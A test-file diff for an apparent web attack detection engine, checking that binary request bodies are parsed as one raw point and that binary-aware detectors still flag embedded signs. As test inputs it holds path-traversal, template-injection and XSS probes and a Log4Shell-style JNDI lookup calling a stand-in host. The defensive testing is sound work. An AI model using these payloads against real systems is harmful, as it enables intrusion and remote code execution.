@@ -409,3 +409,52 @@ describe("plain text, content coding and charsets", () => {
     assert.ok(bodyPoints(post(null, "<r><x>1</x></r>")).includes("body › xml › r › x [value] = 1"));
   });
 });
+
+describe("binary bodies", () => {
+  // Deterministic noise with every byte value, and text-looking runs inside.
+  const noise = (n: number) => {
+    const b = Buffer.alloc(n);
+    let x = 12345;
+    for (let i = 0; i < n; i++) {
+      x = (x * 1103515245 + 12345) >>> 0;
+      b[i] = x >>> 24;
+    }
+    return b;
+  };
+
+  it("are one binary raw point, never sniffed as a form, JSON or text to decode", () => {
+    const bin = Buffer.concat([noise(3000), Buffer.from("a=%2e%2e%2f&{{7*7}}\r\nX: y"), noise(3000)]);
+    for (const ct of [undefined, "application/octet-stream", "application/json"]) {
+      const headers: Header[] = ct === undefined ? [] : [["Content-Type", ct]];
+      const { points, anomalies } = extractPoints({
+        method: "POST",
+        target: "/",
+        headers,
+        body: new Uint8Array(bin),
+      });
+      const body = points.filter((p) => p.zone === "body");
+      assert.equal(body.length, 1, ct);
+      assert.equal(body[0]!.binary, true);
+      assert.equal(body[0]!.kind, "raw");
+      assert.equal(
+        anomalies.some((a) => a.code === "content_type_mismatch"),
+        ct === "application/json",
+      );
+    }
+  });
+
+  it("reach only the detectors that read binary, which still find sprayed signs", () => {
+    const engine = new Engine();
+    const types = (tail: string) =>
+      engine
+        .analyze({
+          method: "PUT",
+          target: "/blob",
+          headers: [],
+          body: new Uint8Array(Buffer.concat([noise(4000), Buffer.from(tail), noise(4000)])),
+        })
+        .hits.map((h) => h.type);
+    assert.deepEqual(types("{{7*7}} <script>alert(1)</script>"), []);
+    assert.ok(types("${jndi:ldap://x.example/a}").includes("rce"));
+  });
+});
